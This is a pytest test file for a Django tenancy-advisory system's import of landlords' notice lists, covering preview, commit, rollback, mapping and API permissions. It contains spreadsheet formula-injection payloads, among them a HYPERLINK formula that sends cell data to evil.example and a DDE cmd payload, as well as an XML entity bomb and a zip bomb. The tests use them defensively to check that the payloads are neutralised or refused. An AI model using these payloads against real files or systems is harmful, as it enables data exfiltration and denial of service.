"""Import of landlords' lists (issue 14 §1): preview, commit, idempotency, all-or-nothing, hostile files, the API."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import tracemalloc
import zipfile
from collections import Counter

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from cases.models import AuditAction, AuditEvent, Case, Notice, Task, TaskKind
from imports import services
from imports.models import ImportRow, ImportStatus, MappingPreset, NoticeImport
from imports.reader import ImportFileError, open_sheet
from tests.factories import pin_for, register
from tests.import_files import HEADINGS, LANDLORD, changed, csv_bytes, good_row, xlsx_bytes

TODAY = timezone.localdate()
TOMORROW = (TODAY + dt.timedelta(days=1)).isoformat()
CO_PIN = "Medhyresgästens personnummer"


def upload(content: bytes, name="lista.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def preview(user, content: bytes, name="lista.csv", **kwargs) -> NoticeImport:
    return services.import_create(organisation=user.organisation, user=user, upload=upload(content, name), **kwargs)


def commit(user, notice_import: NoticeImport, rows="VALID", capture=None) -> NoticeImport:
    """Start the commit and run the task as the worker would, after the transaction (eager in tests)."""
    with capture(execute=True):
        services.import_commit_start(notice_import=notice_import, user=user, rows=rows)
    notice_import.refresh_from_db()
    return notice_import


@pytest.fixture
def eager(settings):
    settings.CELERY_TASK_ALWAYS_EAGER = True


@pytest.fixture
def advisor(personas):
    return personas["hyresradgivare"]


def outcomes(notice_import) -> dict[int, ImportRow]:
    return {row.row_number: row for row in notice_import.rows.all()}


def counts() -> dict:
    return {"cases": Case.objects.count(), "notices": Notice.objects.count(), "tasks": Task.objects.count()}


# 22 kinds of bad rows: (cells to change, field key reported, the intake form's message).
BAD_ROWS = [
    ({"Personnummer": "19860314-9802"}, "tenant_pin", "Kontrollsiffran stämmer inte."),
    ({"Personnummer": "12345"}, "tenant_pin", "Personnumret ska ha 10 eller 12 siffror."),
    ({"Personnummer": "19861340-9801"}, "tenant_pin", "Ogiltigt datum i personnumret."),
    ({"Namn": ""}, "tenant_name", "Ange personens namn."),
    ({"Namn": "", "Personnummer": ""}, "tenant_name", "Hushållet måste ha minst en kontraktsinnehavare."),
    ({"Adress": ""}, "street_address", "Ange hushållets gatuadress."),
    ({"Lgh nr": "12"}, "apartment_number", "Lägenhetsnumret ska ha fyra siffror."),
    ({"Postnummer": "1234"}, "postal_code", "Postnumret ska ha fem siffror."),
    ({"Skuld": "-100"}, "debt_amount", "Beloppet kan inte vara negativt."),
    ({"Skuld": "mycket"}, "debt_amount", "Fyll i ett tal."),
    ({"Handlingens datum": "2026-13-40"}, "document_date", "Fyll i ett giltigt datum."),
    ({"Handlingens datum": TOMORROW}, "document_date", "Handlingens datum kan inte vara senare än datumet då den inkom."),
    ({"Delgivningsdatum": TOMORROW}, "served_date", "Delgivningsdatumet kan inte ligga i framtiden."),
    ({"Organisationsnummer": "556035-8673"}, "landlord_org_number", "Organisationsnumret är ogiltigt: kontrollsiffran stämmer inte."),
    ({"Organisationsnummer": "123"}, "landlord_org_number", "Organisationsnumret ska ha 10 siffror."),
    ({"Hyresvärd": ""}, "landlord_name", "Ange hyresvärdens namn."),
    ({"Organisationsnummer": ""}, "landlord_org_number", "Ange hyresvärdens organisationsnummer."),
    ({"Referens": ""}, "landlord_reference", "Ange hyresvärdens referens: den känner igen raden om listan importeras igen."),
    ({"Typ": "KATT"}, "notice_type", "Välj ett giltigt alternativ. KATT finns inte bland tillgängliga alternativ."),
    ({"Medhyresgäst": "Med Hyresgäst", CO_PIN: "SAME"}, "tenant_name", "Samma personnummer finns på flera personer."),
    ({"Inkom": TOMORROW}, "received_date", "Datumet då underrättelsen inkom kan inte ligga i framtiden."),
    ({"Medhyresgäst": "Med Hyresgäst", CO_PIN: "19860314-9802"}, "co_tenant_pin", "Kontrollsiffran stämmer inte."),
]


def bad_row(kind: int, i: int) -> list[str]:
    cells, _field, _message = BAD_ROWS[kind]
    row = good_row(i, today=TODAY)
    cells = {k: (row[HEADINGS.index("Personnummer")] if v == "SAME" else v) for k, v in cells.items()}
    return changed(row, **{k.replace(" ", "_"): v for k, v in cells.items()})


def mixed_rows(existing, existing_pins, earlier_rows, earlier_case) -> tuple[list, list]:
    """The 1000 rows and what each should become: (outcome, case number or None, error field or None, message or None)."""
    rows, expected = [], []
    for i in range(560):
        rows.append(good_row(i, today=TODAY))
        expected.append(("NEW_HOUSEHOLD", None, None, None))
    for k in range(20):  # the same household again, with another notice: joins the case the file's row i creates
        rows.append(changed(good_row(k, today=TODAY), Referens=f"SAME-HH-{k}", Uppsägningsdatum=""))
        expected.append(("JOINS_CASE", None, None, None))
    for k in range(100):  # two notices each for the 50 open cases
        rows.append(good_row(2000 + k, today=TODAY, pin=existing_pins[k % 50]))
        expected.append(("JOINS_CASE", existing[k % 50].number, None, None))
    for k in range(50):  # the same notice twice in the file
        rows.append(good_row(k, today=TODAY))
        expected.append(("ALREADY_IMPORTED", None, None, None))
    for k in range(50):  # already imported by the earlier file
        rows.append(earlier_rows[k])
        expected.append(("ALREADY_IMPORTED", earlier_case[earlier_rows[k][0]], None, None))
    for kind in range(len(BAD_ROWS)):
        for k in range(10):
            rows.append(bad_row(kind, 3000 + kind * 10 + k))
            expected.append(("ERROR", None, BAD_ROWS[kind][1], BAD_ROWS[kind][2]))
    return rows, expected


@pytest.mark.slow
@pytest.mark.django_db
def test_a_1000_row_mixed_file_previews_each_row_right_and_commits_exactly_once(advisor, organisation, eager,
                                                                                 django_capture_on_commit_callbacks, client):
    # 50 households with an open case, registered through the form's service.
    existing = [register(organisation, advisor, tenant_birth="19700101", serial=900 + k, street=f"Gamla vägen {k}",
                         today=TODAY, notice=None).case for k in range(50)]
    existing_pins = [pin_for("19700101", 900 + k) for k in range(50)]
    # An earlier import of 50 rows.
    earlier_rows = [good_row(1000 + k, today=TODAY) for k in range(50)]
    earlier = commit(advisor, preview(advisor, csv_bytes(earlier_rows)), rows="ALL", capture=django_capture_on_commit_callbacks)
    assert (earlier.status, earlier.created_cases) == (ImportStatus.DONE, 50)
    earlier_case = {row.values["landlord_reference"]: row.case_number for row in earlier.rows.all()}

    rows, expected = mixed_rows(existing, existing_pins, earlier_rows, earlier_case)
    assert len(rows) == 1000

    before = counts()
    notice_import = preview(advisor, csv_bytes(rows))
    assert counts() == before, "the preview writes nothing"
    assert notice_import.status == ImportStatus.PREVIEW and notice_import.row_count == 1000
    # The preview shows the cases rows join or were imported into: one read of each in the audit log (in bulk).
    viewed = AuditEvent.objects.filter(action=AuditAction.CASE_VIEW, detail=f"import_preview={notice_import.pk}")
    shown = set(notice_import.rows.exclude(case_number="").values_list("case_number", flat=True))
    assert {case.number for case in existing} < shown
    assert sorted(viewed.values_list("case__number", flat=True)) == sorted(shown)
    assert {(e.user_id, e.organisation_id) for e in viewed} == {(advisor.pk, organisation.pk)}
    by_number = outcomes(notice_import)
    for index, (outcome, case_number, field, message) in enumerate(expected):
        row = by_number[index + 2]  # row 1 is the heading
        assert row.outcome == outcome, (index, row.errors, row.note)
        if case_number:
            assert row.case_number == case_number
        if field:
            assert message in row.errors.get(field, []), (index, row.errors)

    committed = commit(advisor, notice_import, rows="VALID", capture=django_capture_on_commit_callbacks)
    assert committed.status == ImportStatus.DONE, committed.failure
    after = counts()
    assert after["cases"] - before["cases"] == 560
    assert after["notices"] - before["notices"] == 560 + 20 + 100
    assert (committed.created_cases, committed.joined_cases) == (560, 50)
    for case in existing:
        assert case.notices.count() == 3
    new_cases = Case.objects.filter(pk__in=committed.rows.filter(outcome="NEW_HOUSEHOLD").values("case_id"))
    assert new_cases.count() == 560
    # Each registered row names its notice, its case and the case's number (written in one statement per chunk).
    registered = committed.rows.filter(outcome__in=["NEW_HOUSEHOLD", "JOINS_CASE"]).select_related("notice", "case")
    assert registered.count() == 680
    assert all((row.notice.case_id, row.case_number) == (row.case_id, row.case.number) for row in registered)
    for k in range(20):
        assert Case.objects.get(notices__landlord_reference=f"SAME-HH-{k}").notices.count() == 2

    # Tasks and letters are those of the intake form: register row 0's twin through the form and compare.
    twin = good_row(9999, today=TODAY)
    client.force_login(advisor)
    response = client.post(reverse("cases:intake_new"), {
        "notice_type": "RENT_ARREARS_TERMINATION", "sender_kind": "LANDLORD", "channel": "POST",
        "landlord_name": LANDLORD[0], "landlord_org_number": LANDLORD[1], "landlord_reference": twin[0],
        "received_date": TODAY.isoformat(), "document_date": twin[10], "served_date": twin[11], "termination_date": twin[12],
        "debt_amount": "12345.50", "recovery_amount": "12345.50", "street_address": twin[3], "apartment_number": twin[4],
        "postal_code": "12040", "city": "Årsta", "housing_type": "ORDINARY", "phone": twin[7],
        "members-TOTAL_FORMS": "1", "members-INITIAL_FORMS": "0", "members-MIN_NUM_FORMS": "0", "members-MAX_NUM_FORMS": "30",
        "members-0-name": twin[1], "members-0-personal_identity_number": twin[2], "members-0-role": "TENANT",
    })
    assert response.status_code == 302, response.content.decode()[:2000]
    form_case = Case.objects.get(notices__landlord_reference=twin[0])
    form_tasks = sorted(form_case.tasks.values_list("kind", "unit__code", "due_date"))
    imported = committed.rows.get(row_number=2).case
    assert sorted(imported.tasks.values_list("kind", "unit__code", "due_date")) == form_tasks
    assert (imported.recovery_deadline, imported.lead_unit_id, imported.urgent) == (
        form_case.recovery_deadline, form_case.lead_unit_id, form_case.urgent)
    letters = Task.objects.filter(kind=TaskKind.SEND_LETTER, case__in=new_cases).count()
    assert letters == 560 * form_case.tasks.filter(kind=TaskKind.SEND_LETTER).count() and letters > 0
    assert Notice.objects.filter(case__in=new_cases).exclude(channel="IMPORT").count() == 0

    # The audit log has the import with its hash, row count and the cases touched.
    done = AuditEvent.objects.filter(action=AuditAction.NOTICE_IMPORT, detail__startswith=f"done import={committed.pk}").get()
    assert committed.file_sha256 in done.detail and "rows=1000" in done.detail and "cases=610" in done.detail
    assert AuditEvent.objects.filter(action=AuditAction.NOTICE_IMPORT, case__isnull=False,
                                     detail__startswith=f"import={committed.pk} ").count() == 610
    # Each registered notice is logged on its case as the form logs it (written per chunk, one statement each): on the
    # cases the import touched, one NOTICE_REGISTER event per notice, those registered before the import included.
    touched = committed.rows.exclude(notice=None).values("case_id")
    assert AuditEvent.objects.filter(action=AuditAction.NOTICE_REGISTER, case_id__in=touched).count() == (
        Notice.objects.filter(case_id__in=touched).count()) > 610

    # The same file again creates nothing: every valid row is "redan importerad".
    before = counts()
    again = preview(advisor, csv_bytes(rows))
    tally = Counter(again.rows.values_list("outcome", flat=True))
    assert tally == {"ALREADY_IMPORTED": 780, "ERROR": 220}
    again = commit(advisor, again, rows="VALID", capture=django_capture_on_commit_callbacks)
    assert again.status == ImportStatus.DONE and counts() == before
    assert (again.created_cases, again.joined_cases) == (0, 0)


@pytest.mark.django_db
def test_a_fault_in_the_middle_of_the_commit_leaves_nothing(advisor, eager, django_capture_on_commit_callbacks, monkeypatch):
    notice_import = preview(advisor, csv_bytes([good_row(i, today=TODAY) for i in range(30)]))
    real = services.case_services.notice_register
    calls = {"n": 0}

    def failing(**kwargs):
        calls["n"] += 1
        if calls["n"] == 15:
            raise RuntimeError("disk full")
        return real(**kwargs)

    monkeypatch.setattr(services.case_services, "notice_register", failing)
    before = counts()
    audit_before = AuditEvent.objects.filter(action=AuditAction.NOTICE_REGISTER).count()
    result = commit(advisor, notice_import, rows="ALL", capture=django_capture_on_commit_callbacks)
    assert calls["n"] == 15
    assert result.status == ImportStatus.FAILED and "ingenting registrerades" in result.failure
    assert counts() == before
    assert AuditEvent.objects.filter(action=AuditAction.NOTICE_REGISTER).count() == audit_before
    assert not result.rows.filter(notice__isnull=False).exists()
    assert AuditEvent.objects.filter(action=AuditAction.NOTICE_IMPORT, detail__startswith=f"failed import={result.pk}").exists()


@pytest.mark.django_db
def test_the_commit_task_run_twice_registers_once(advisor, eager, django_capture_on_commit_callbacks):
    from imports.tasks import import_commit_task

    notice_import = commit(advisor, preview(advisor, csv_bytes([good_row(i, today=TODAY) for i in range(3)])),
                           capture=django_capture_on_commit_callbacks)
    before = counts()
    import_commit_task.apply(args=[notice_import.pk, advisor.pk])
    assert counts() == before


@pytest.mark.django_db
def test_all_rows_is_refused_while_a_row_has_errors(advisor):
    notice_import = preview(advisor, csv_bytes([good_row(1, today=TODAY), bad_row(0, 2)]))
    with pytest.raises(services.ImportStateError, match="1 rader har fel"):
        services.import_commit_start(notice_import=notice_import, user=advisor, rows="ALL")
    notice_import.refresh_from_db()
    assert notice_import.status == ImportStatus.PREVIEW


# --- the report ---------------------------------------------------------------------

# (Cells are trimmed on reading, so a leading tab or CR never reaches the report; neutralise() covers them anyway.)
INJECTIONS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klicka\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1"]


@pytest.mark.django_db
def test_formula_injection_comes_back_neutralised_in_the_report(advisor, client):
    rows = [changed(good_row(i, today=TODAY), Namn=text, Referens=text if i % 2 else f"R-{i}") for i, text in enumerate(INJECTIONS)]
    notice_import = preview(advisor, csv_bytes(rows))
    client.force_login(advisor)

    body = client.get(reverse("imports:report", args=[notice_import.pk, "csv"])).content.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(body), delimiter=";") for cell in line]
    for text in INJECTIONS:
        assert "'" + text in cells
        assert text not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")]

    import openpyxl

    response = client.get(reverse("imports:report", args=[notice_import.pk, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in values if c.data_type == "f"], "no cell is a formula"
    texts = {c.value for c in values}
    for text in INJECTIONS:
        assert "'" + text in texts
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, detail__startswith=f"import_report={notice_import.pk}").count() == 2


def test_neutralise_covers_every_formula_start():
    from imports.report import neutralise

    assert [neutralise(v) for v in ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "ok", None)] == [
        "'=1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1", "ok", ""]


@pytest.mark.django_db
def test_the_report_masks_personnummer(advisor, client):
    notice_import = preview(advisor, csv_bytes([good_row(1, today=TODAY)]))
    client.force_login(advisor)
    body = client.get(reverse("imports:report", args=[notice_import.pk, "csv"])).content.decode("utf-8-sig")
    pin = good_row(1, today=TODAY)[2]
    assert pin not in body and pin[:8] + "-XXXX" in body


# --- hostile and odd files -------------------------------------------------------------


def _xlsx_with(extra: dict[str, bytes], base: bytes | None = None) -> bytes:
    """A real workbook with some parts replaced or added."""
    source = zipfile.ZipFile(io.BytesIO(base or xlsx_bytes([good_row(1, today=TODAY)])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename not in extra:
                target.writestr(item, source.read(item.filename))
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    b'<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize("name,content,message", [
    ("bomb.xlsx", lambda: _xlsx_with({"xl/worksheets/sheet1.xml": BILLION_LAUGHS}), "inte en giltig XLSX-fil"),
    ("makro.xlsx", lambda: _xlsx_with({"xl/vbaProject.bin": b"\x00" * 100}), "makron"),
    ("lank.xlsx", lambda: _xlsx_with({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "externa länkar"),
    ("zip.xlsx", lambda: _xlsx_with({"xl/worksheets/sheet2.xml": b"0" * (201 * 1024 * 1024)}), "för stor uppackad"),
    ("trasig.xlsx", lambda: b"PK\x03\x04 not really a zip", "inte en giltig XLSX-fil"),
    ("stor.csv", lambda: b"Referens;Namn\n" + b"x;y\n" * (3 * 1024 * 1024), "för stor: högst 10 MB"),
    ("tom.csv", lambda: b"", "tom"),
    ("binar.csv", lambda: b"\x00\x01\x02" * 10, "varken CSV eller XLSX"),
])
@pytest.mark.django_db
def test_hostile_files_are_refused_with_a_clear_message_and_bounded_memory(advisor, name, content, message):
    data = content()
    tracemalloc.start()
    try:
        with pytest.raises(ImportFileError, match=message):
            preview(advisor, data, name)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Twice the file plus bookkeeping at most: nothing was expanded in memory.
    assert peak < 2 * len(data) + 40 * 1024 * 1024, peak
    assert not NoticeImport.objects.exists()


@pytest.mark.django_db
def test_a_huge_sheet_is_refused_at_the_row_limit_without_reading_it_all(advisor, monkeypatch):
    monkeypatch.setattr("imports.reader.MAX_ROWS", 100)
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>R{r}</t></is></c></row>' for r in range(2, 5000))
    sheet = ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Referens</t></is></c></row>'
             + rows + "</sheetData></worksheet>").encode()
    with pytest.raises(ImportFileError, match="fler än 100 rader"):
        preview(advisor, _xlsx_with({"xl/worksheets/sheet1.xml": sheet}), "stor.xlsx")
    assert not NoticeImport.objects.exists()


def test_the_row_limit_is_20000():
    from imports import reader

    assert (reader.MAX_ROWS, reader.MAX_FILE_BYTES) == (20_000, 10 * 1024 * 1024)


@pytest.mark.django_db
def test_windows_1252_with_commas_is_read(advisor):
    data = csv_bytes([changed(good_row(1, today=TODAY), Namn="Åsa Öberg", Ort="Älvsjö")], delimiter=",", encoding="cp1252")
    notice_import = preview(advisor, data)
    row = notice_import.rows.get()
    assert row.outcome == "NEW_HOUSEHOLD", row.errors
    assert (row.values["tenant_name"], row.values["city"]) == ("Åsa Öberg", "Älvsjö")


@pytest.mark.django_db
def test_xlsx_with_real_dates_and_numbers_is_read(advisor):
    row = good_row(1, today=TODAY)
    row[HEADINGS.index("Skuld")] = 12345.5
    row[HEADINGS.index("Handlingens datum")] = dt.datetime.combine(TODAY - dt.timedelta(days=3), dt.time())
    row[HEADINGS.index("Lgh nr")] = 1102
    notice_import = preview(advisor, xlsx_bytes([row]), "lista.xlsx")
    imported = notice_import.rows.get()
    assert imported.outcome == "NEW_HOUSEHOLD", imported.errors
    assert imported.values["document_date"] == (TODAY - dt.timedelta(days=3)).isoformat()


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_template_lists_every_column_and_its_example_row_imports(advisor, client, fmt):
    from imports.columns import COLUMNS

    client.force_login(advisor)
    response = client.get(reverse("imports:template", args=[fmt]))
    assert response.status_code == 200
    sheet = open_sheet(io.BytesIO(response.content), f"mall.{fmt}")
    assert sheet.headings == [str(c.heading) for c in COLUMNS]
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        assert all(str(c.meaning)[:30] in text for c in COLUMNS)
    else:
        import openpyxl

        meanings = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[1]
        assert [r[1] for r in meanings.iter_rows(min_row=2, values_only=True)] == [str(c.meaning) for c in COLUMNS]
    notice_import = preview(advisor, response.content, f"mall.{fmt}")
    row = notice_import.rows.get()
    assert row.outcome == "NEW_HOUSEHOLD", row.errors
    assert row.values["tenant_pin"] == "19790521-9908"


# --- mapping ------------------------------------------------------------------------


@pytest.mark.django_db
def test_common_headings_are_recognised():
    from imports.columns import recognise

    mapping = recognise(["Lgh.nr", "PNR", "Hyresgäst", "Återvinnings-belopp", "Delgiven", "Ert ärende", "Okänd kolumn"])
    assert mapping == {"0": "apartment_number", "1": "tenant_pin", "2": "tenant_name", "3": "recovery_amount",
                       "4": "served_date", "5": "landlord_reference"}


@pytest.mark.django_db
def test_a_saved_preset_is_proposed_next_time_for_that_landlord(advisor, organisation, client):
    from cases.models import Landlord

    landlord = Landlord.objects.create(organisation=organisation, name=LANDLORD[0], org_number=LANDLORD[1])
    odd = ["Avtal", "Kund", "Id-nummer", "Gata", "Lgh nr", "Postnummer"]
    data = csv_bytes([[f"A-{i}", f"Test P{i}", pin_for("19800101", 900 + i), "Gatan 1", "1001", "12040"] for i in range(2)], headings=odd)
    client.force_login(advisor)
    response = client.post(reverse("imports:start"), {"file": upload(data), "landlord": landlord.pk})
    first = NoticeImport.objects.get()
    assert response.url == reverse("imports:mapping", args=[first.pk])
    assert "0" not in first.mapping and "2" not in first.mapping  # "Avtal", "Id-nummer" are not common headings
    chosen = {"col_0": "landlord_reference", "col_1": "tenant_name", "col_2": "tenant_pin", "col_3": "street_address",
              "col_4": "apartment_number", "col_5": "postal_code", "save_preset": "on"}
    response = client.post(reverse("imports:mapping", args=[first.pk]), chosen)
    assert response.status_code == 302
    first.refresh_from_db()
    assert first.status == ImportStatus.PREVIEW
    assert Counter(first.rows.values_list("outcome", flat=True)) == {"NEW_HOUSEHOLD": 2}  # landlord filled in from the choice
    assert MappingPreset.objects.get(landlord=landlord).mapping["avtal"] == "landlord_reference"

    client.post(reverse("imports:start"), {"file": upload(data), "landlord": landlord.pk})
    second = NoticeImport.objects.exclude(pk=first.pk).get()
    assert second.mapping == {"0": "landlord_reference", "1": "tenant_name", "2": "tenant_pin", "3": "street_address",
                              "4": "apartment_number", "5": "postal_code"}


@pytest.mark.django_db
def test_a_mapping_without_the_required_columns_is_refused_and_the_form_keeps_the_choice(advisor, client):
    client.force_login(advisor)
    client.post(reverse("imports:start"), {"file": upload(csv_bytes([good_row(1, today=TODAY)]))})
    notice_import = NoticeImport.objects.get()
    response = client.post(reverse("imports:mapping", args=[notice_import.pk]), {"col_1": "tenant_name", "col_2": "tenant_pin"})
    assert response.status_code == 400
    page = response.content.decode()
    assert "Välj en kolumn för: Referens, Adress." in page
    assert '<option value="tenant_pin" selected>' in page


# --- the pages ------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_pages_are_for_the_tenancy_advisor_of_the_same_organisation(personas, client, other_organisation, make_user):
    notice_import = preview(personas["hyresradgivare"], csv_bytes([good_row(1, today=TODAY)]))
    urls = [reverse("imports:start"), reverse("imports:detail", args=[notice_import.pk]),
            reverse("imports:status", args=[notice_import.pk]), reverse("imports:report", args=[notice_import.pk, "csv"]),
            reverse("imports:file", args=[notice_import.pk]), reverse("imports:template", args=["xlsx"])]
    client.force_login(personas["hyresradgivare"])
    for url in urls:
        assert client.get(url).status_code == 200, url
    for persona in ("barn", "chef", "ordforande", "admin"):
        client.force_login(personas[persona])
        for url in urls:
            assert client.get(url).status_code == 403, (persona, url)
    outsider = make_user("hr2", "hyresradgivare", "HYRESRADGIVNING", org=other_organisation)
    client.force_login(outsider)
    for url in urls[1:5]:
        assert client.get(url).status_code == 404, url
    client.logout()
    assert client.get(urls[0]).status_code == 302


@pytest.mark.django_db
def test_the_kept_file_is_served_like_a_scan(advisor, client):
    content = csv_bytes([good_row(1, today=TODAY)])
    notice_import = preview(advisor, content)
    client.force_login(advisor)
    response = client.get(reverse("imports:file", args=[notice_import.pk]))
    assert b"".join(response.streaming_content) == content
    assert "no-store" in response["Cache-Control"]
    assert AuditEvent.objects.filter(action=AuditAction.DOCUMENT_DOWNLOAD, detail__contains=notice_import.file_sha256).exists()
    # Not under MEDIA_URL: the file is outside the static and public paths.
    assert "imports/" in notice_import.file.name and not notice_import.file.name.startswith("/")


@pytest.mark.django_db
def test_the_whole_import_through_the_pages(advisor, client, eager, django_capture_on_commit_callbacks):
    client.force_login(advisor)
    rows = [good_row(i, today=TODAY) for i in range(3)] + [bad_row(1, 7)]
    response = client.post(reverse("imports:start"), {"file": upload(csv_bytes(rows))})
    notice_import = NoticeImport.objects.get()
    response = client.get(response.url)
    assert "Personnummer" in response.content.decode()
    response = client.post(reverse("imports:mapping", args=[notice_import.pk]),
                           {f"col_{i}": key for i, key in notice_import.mapping.items()})
    page = client.get(response.url).content.decode()
    assert "Personnumret ska ha 10 eller 12 siffror." in page and "3 rader registreras." in page
    # Nothing happens without an explicit choice and confirmation.
    response = client.post(reverse("imports:commit", args=[notice_import.pk]), {"rows": "VALID"})
    assert response.status_code == 400 and "Bekräfta att du har granskat förhandsvisningen." in response.content.decode()
    response = client.post(reverse("imports:commit", args=[notice_import.pk]), {"rows": "ALL", "confirm": "on"})
    assert response.status_code == 400 and "1 rader har fel" in response.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("imports:commit", args=[notice_import.pk]), {"rows": "VALID", "confirm": "on"})
    assert response.status_code == 302
    page = client.get(reverse("imports:detail", args=[notice_import.pk])).content.decode()
    assert "Importen är klar: 3 nya ärenden" in page
    status = client.get(reverse("imports:status", args=[notice_import.pk])).json()
    assert status == {"status": "DONE", "progress": {"done": 3, "total": 3}}


# --- the API ------------------------------------------------------------------------


@pytest.fixture
def api(advisor):
    client = APIClient()
    client.force_authenticate(advisor)
    return client


@pytest.mark.django_db
def test_api_create_commit_and_status(api, eager, django_capture_on_commit_callbacks, advisor, organisation):
    case = register(organisation, advisor, tenant_birth="19700101", serial=950, today=TODAY).case
    rows = [good_row(1, today=TODAY), good_row(2, today=TODAY, pin=pin_for("19700101", 950)), good_row(1, today=TODAY), bad_row(0, 3)]
    response = api.post("/api/v1/imports/", {"file": upload(csv_bytes(rows))}, format="multipart")
    assert response.status_code == 201, response.content
    body = response.json()
    assert set(body) == {"id", "status", "rows"} and body["status"] == "PREVIEW"
    assert body["rows"] == [
        {"row": 2, "outcome": "NEW_HOUSEHOLD", "case_number": None, "errors": {}},
        {"row": 3, "outcome": "JOINS_CASE", "case_number": case.number, "errors": {}},
        {"row": 4, "outcome": "ALREADY_IMPORTED", "case_number": None, "errors": {}},
        {"row": 5, "outcome": "ERROR", "case_number": None, "errors": {"tenant_pin": ["Kontrollsiffran stämmer inte."]}},
    ]
    url = f"/api/v1/imports/{body['id']}/"
    assert api.get(url).json() == {"status": "PREVIEW", "progress": {"done": 0, "total": 0}, "created_cases": 0, "joined_cases": 0}
    assert api.post(url + "commit/", {"rows": "ALL"}, format="json").status_code == 400
    assert api.post(url + "commit/", {"rows": "SOME"}, format="json").status_code == 400
    with django_capture_on_commit_callbacks(execute=True):
        response = api.post(url + "commit/", {"rows": "VALID"}, format="json")
    assert (response.status_code, response.json()) == (202, {"status": "RUNNING"})
    assert api.get(url).json() == {"status": "DONE", "progress": {"done": 2, "total": 2}, "created_cases": 1, "joined_cases": 1}
    assert api.post(url + "commit/", {"rows": "VALID"}, format="json").status_code == 400  # not twice


@pytest.mark.django_db
def test_api_mapping_by_heading(api):
    headings = ["Ärendenr", "Hyresgästnamn", "Pnr", "Gata"]
    data = csv_bytes([["X-1", "Test Testsson", pin_for("19800101", 901), "Gatan 1"]], headings=headings)
    mapping = {"Ärendenr": "landlord_reference", "Hyresgästnamn": "tenant_name", "Pnr": "tenant_pin", "Gata": "street_address"}
    response = api.post("/api/v1/imports/", {"file": upload(data), "mapping": json.dumps(mapping)}, format="multipart")
    assert response.status_code == 201
    assert response.json()["rows"][0]["errors"] == {"landlord_name": ["Ange hyresvärdens namn."]}


@pytest.mark.django_db
@pytest.mark.parametrize("payload,field,message", [
    ({}, "file", "Bifoga filen i fältet file."),
    ({"mapping": "{not json"}, "mapping", "Mappningen måste vara JSON."),
    ({"mapping": json.dumps({"Referens": "skostorlek"})}, "mapping", "Okänt fält i mappningen: skostorlek."),
    ({"mapping": json.dumps({"Finns inte": "tenant_pin"})}, "mapping", "Kolumnen finns inte i filen: Finns inte."),
    ({"landlord": "999999"}, "landlord", "Hyresvärden finns inte."),
])
def test_api_bad_input_is_400_with_field_errors(api, payload, field, message):
    if "file" not in payload and payload:
        payload = {**payload, "file": upload(csv_bytes([good_row(1, today=TODAY)]))}
    response = api.post("/api/v1/imports/", payload, format="multipart")
    assert response.status_code == 400
    assert message in response.json()[field]


@pytest.mark.django_db
def test_api_refused_file_is_400(api):
    response = api.post("/api/v1/imports/", {"file": upload(b"PK\x03\x04junk", "x.xlsx")}, format="multipart")
    assert response.status_code == 400 and response.json() == {"file": ["Filen är inte en giltig XLSX-fil."]}


@pytest.mark.django_db
def test_api_is_for_tenancy_advisors_of_the_organisation(personas, other_organisation, make_user):
    notice_import = preview(personas["hyresradgivare"], csv_bytes([good_row(1, today=TODAY)]))
    client = APIClient()
    client.force_authenticate(personas["barn"])
    assert client.get(f"/api/v1/imports/{notice_import.pk}/").status_code == 403
    assert client.post("/api/v1/imports/", {}, format="multipart").status_code == 403
    client.force_authenticate(make_user("hr2", "hyresradgivare", "HYRESRADGIVNING", org=other_organisation))
    assert client.get(f"/api/v1/imports/{notice_import.pk}/").status_code == 404
    assert client.post(f"/api/v1/imports/{notice_import.pk}/commit/", {"rows": "VALID"}, format="json").status_code == 404
    assert APIClient().get(f"/api/v1/imports/{notice_import.pk}/").status_code == 401


def _commit_queries(advisor, capture, first: int, rows: int) -> list[str]:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    notice_import = preview(advisor, csv_bytes([good_row(first + i, today=TODAY) for i in range(rows)]))
    with CaptureQueriesContext(connection) as queries:
        result = commit(advisor, notice_import, rows="ALL", capture=capture)
    assert result.status == ImportStatus.DONE and result.created_cases == rows
    sql = [q["sql"] for q in queries.captured_queries]
    # The transaction's own statements, up to the import marked DONE; after it, what the commit sets off per case (the
    # e-mail of a unit's case worker who chose it, the prepared BOSAM agendas) runs after the commit.
